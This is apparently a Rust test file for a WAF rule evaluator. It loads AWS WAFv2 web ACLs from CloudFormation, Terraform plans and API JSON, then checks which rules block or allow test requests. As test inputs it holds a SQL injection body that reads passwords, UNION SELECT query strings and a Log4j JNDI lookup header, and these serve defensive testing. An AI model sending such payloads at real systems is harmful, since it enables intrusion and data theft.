//! Web ACL sources (CloudFormation with intrinsics, Terraform plans, the WAFv2
//! API's JSON) and the errors bad inputs get: each names the file and line and
//! says what was expected.

use deadbolt::waf::{
    evaluate_corpus, load_web_acls, parse_requests, select_web_acl, LoadOptions, Outcome, Request,
    WafError, WebAcl,
};

fn load(path: &str, name: Option<&str>) -> Result<WebAcl, WafError> {
    let text = std::fs::read_to_string(path).unwrap();
    let acls = load_web_acls(path, &text, &LoadOptions::default())?;
    select_web_acl(path, acls, name)
}

fn req(ip: &str, uri: &str) -> Request {
    let mut r = Request::get(ip, uri).with_header("User-Agent", "Mozilla/5.0");
    r.country = Some("US".into());
    r
}

fn decide(acl: &WebAcl, r: &Request) -> (Outcome, String) {
    let d = acl.evaluate(r, &mut acl.new_rate_state());
    (d.action, d.terminating_rule_id)
}

#[test]
fn cloudformation_intrinsics_resolve_statically() {
    let acl = load("fixtures/waf/acl/intrinsics.yaml", Some("prod-api")).unwrap();
    assert_eq!((acl.id.as_str(), acl.name.as_str()), ("Api", "prod-api"));
    assert_eq!(acl.label_prefix, "awswaf:123456789012:webacl:prod-api:");
    let names: Vec<&str> = acl.rules.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "BlockBlocked",
            "GeoBlock",
            "LoginRate",
            "NoValueLabels",
            "AllowApiPaths"
        ]
    );
    // Fn::If picked the prod branch: default Block, IP set 192.0.2.0/24.
    assert_eq!(
        decide(&acl, &req("192.0.2.9", "/api/v1/x")).1,
        "BlockBlocked"
    );
    assert_eq!(
        decide(&acl, &req("198.51.100.9", "/api/v1/x")),
        (Outcome::Allow, "AllowApiPaths".into())
    );
    assert_eq!(
        decide(&acl, &req("198.51.100.9", "/other")),
        (Outcome::Block, "Default_Action".into())
    );
    let mut kp = req("198.51.100.9", "/api/v1/x");
    kp.country = Some("KP".into());
    assert_eq!(decide(&acl, &kp).1, "GeoBlock");
    // SearchStringBase64 from Fn::Base64, and AWS::NoValue dropped the labels.
    let d = acl.evaluate(
        &req("198.51.100.9", "/api/v1/x?debug=1"),
        &mut acl.new_rate_state(),
    );
    assert_eq!(d.non_terminating_matching_rules[0].rule_id, "NoValueLabels");
    // Only the geo rule's labels: the Count rule has none.
    assert_eq!(
        d.label_names().collect::<Vec<_>>(),
        [
            "awswaf:clientip:geo:country:US",
            "awswaf:clientip:geo:region:US-XX"
        ]
    );
    // The other web ACL of the file, by logical id.
    let admin = load("fixtures/waf/acl/intrinsics.yaml", Some("Admin")).unwrap();
    assert_eq!(
        (admin.scope.name(), admin.body_limit),
        ("CLOUDFRONT", 16 * 1024)
    );
}

#[test]
fn a_file_with_several_acls_needs_a_name() {
    let e = load("fixtures/waf/acl/intrinsics.yaml", None).unwrap_err();
    assert_eq!(
        e.to_string(),
        "fixtures/waf/acl/intrinsics.yaml: the file holds 2 web ACLs (Api (Name prod-api), Admin (Name admin)); choose one with --acl-name"
    );
    let e = load("fixtures/waf/acl/intrinsics.yaml", Some("nope")).unwrap_err();
    assert!(
        e.message
            .starts_with("no web ACL named nope; the file holds: Api"),
        "{e}"
    );
}

#[test]
fn terraform_plan_with_references_known_after_apply() {
    let acl = load("fixtures/waf/plan/main.plan.json", None).unwrap();
    assert_eq!(
        (acl.id.as_str(), acl.name.as_str()),
        ("aws_wafv2_web_acl.main", "main-acl")
    );
    assert_eq!(decide(&acl, &req("203.0.113.66", "/")).1, "block-bad-ips");
    assert_eq!(
        decide(&acl, &req("198.51.100.1", "/ADMIN/x")).1,
        "block-admin"
    );
    let mut json = req("198.51.100.1", "/api");
    json.body = Some(br#"{"q":"1' UNION SELECT password FROM users--"}"#.to_vec());
    assert_eq!(decide(&acl, &json).1, "sqli-json");
    // The rule group's block-bots is overridden to Count; its label still makes
    // the group's next rule block checkout requests.
    let bot = Request::get("198.51.100.1", "/checkout").with_header("User-Agent", "GoodBot");
    let d = acl.evaluate(&bot, &mut acl.new_rate_state());
    assert_eq!(d.terminating_rule_id, "shared-group");
    let g = &d.rule_group_list[0];
    assert_eq!(
        g.terminating_rule.as_ref().unwrap().rule_id,
        "block-bot-label-on-checkout"
    );
    assert_eq!(g.non_terminating_matching_rules[0].rule_id, "block-bots");
    // The rate rule: limit 10 in 60 s.
    let reqs: Vec<Request> = (0..11)
        .map(|i| {
            let mut r = req("198.51.100.7", "/");
            r.timestamp = Some(i * 100);
            r
        })
        .collect();
    let d = evaluate_corpus(&acl, &reqs);
    assert_eq!(
        (d[9].action, d[10].terminating_rule_id.as_str()),
        (Outcome::Allow, "rate-limit")
    );
}

#[test]
fn api_json_with_its_ip_set() {
    let acl = load("fixtures/waf/api/get-web-acl.json", None).unwrap();
    assert_eq!(
        (acl.name.as_str(), acl.scope.name()),
        ("prod-edge", "CLOUDFRONT")
    );
    assert_eq!(acl.label_prefix, "awswaf:111122223333:webacl:prod-edge:");
    assert_eq!(
        decide(&acl, &req("198.51.100.9", "/")).1,
        "block-blocked-ips"
    );
    // SearchString is Base64 in API JSON: QmFkQm90 = BadBot.
    let bot = Request::get("203.0.113.1", "/").with_header("User-Agent", "x BadBot/1.0");
    assert_eq!(decide(&acl, &bot).1, "block-bad-bot");
    let no_ua = Request::get("203.0.113.1", "/");
    let d = acl.evaluate(&no_ua, &mut acl.new_rate_state());
    assert_eq!(
        d.rule_group_list[0]
            .terminating_rule
            .as_ref()
            .unwrap()
            .rule_id,
        "NoUserAgent_HEADER"
    );
}

fn error_of(path: &str) -> String {
    match load(path, None) {
        Ok(_) => panic!("{path} loaded"),
        Err(e) => e.to_string(),
    }
}

#[test]
fn bad_web_acls_get_clear_errors() {
    let files = [
        "missing-ip-set",
        "missing-ref",
        "invalid-regex",
        "lookaround-regex",
        "priority-clash",
        "unknown-transformation",
        "parameter-without-default",
        "import-value",
        "misspelt-property",
        "group-with-action",
        "override-unknown-rule",
        "two-statements",
        "nested-rate",
        "bad-window",
        "bad-cidr",
        "not-an-acl",
    ];
    let report: String = files
        .iter()
        .map(|f| error_of(&format!("fixtures/waf/bad/{f}.yaml")) + "\n")
        .collect();
    insta::assert_snapshot!(report);
}

#[test]
fn bad_request_files_get_clear_errors() {
    let report: String = [
        "requests-not-json",
        "requests-bad-base64",
        "requests-bad-ip",
        "requests-misspelt",
    ]
    .iter()
    .map(|f| {
        let path = format!("fixtures/waf/bad/{f}.jsonl");
        let text = std::fs::read_to_string(&path).unwrap();
        parse_requests(&path, &text).unwrap_err().to_string() + "\n"
    })
    .collect();
    insta::assert_snapshot!(report);
}

#[test]
fn firewall_manager_rule_groups_run_before_and_after_the_acl_rules() {
    let acl = load("fixtures/waf/api/firewall-manager.json", None).unwrap();
    let names: Vec<&str> = acl.rules.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["FMS-pre-kbi", "allow-office", "FMS-post-sqli"]);
    // The pre-process group blocks Log4j even from the allowed office range...
    let office =
        Request::get("198.51.100.1", "/").with_header("X-Api-Version", "${jndi:ldap://x/a}");
    assert_eq!(decide(&acl, &office).1, "FMS-pre-kbi");
    // ...but the office's SQL reaches the post-process group only from elsewhere.
    assert_eq!(
        decide(&acl, &req("198.51.100.1", "/?id=1%20UNION%20SELECT%201")).1,
        "allow-office"
    );
    assert_eq!(
        decide(&acl, &req("203.0.113.5", "/?id=1%20UNION%20SELECT%201")).1,
        "FMS-post-sqli"
    );
}

#[test]
fn rules_added_from_outside_the_acl_are_refused() {
    let e = load("fixtures/waf/bad/separate-rule-association.plan.json", None).unwrap_err();
    assert!(
        e.message.starts_with(
            "aws_wafv2_web_acl_rule_group_association.extra adds rules to aws_wafv2_web_acl.main"
        ),
        "{e}"
    );
    assert!(e.line_no() > 0);
}
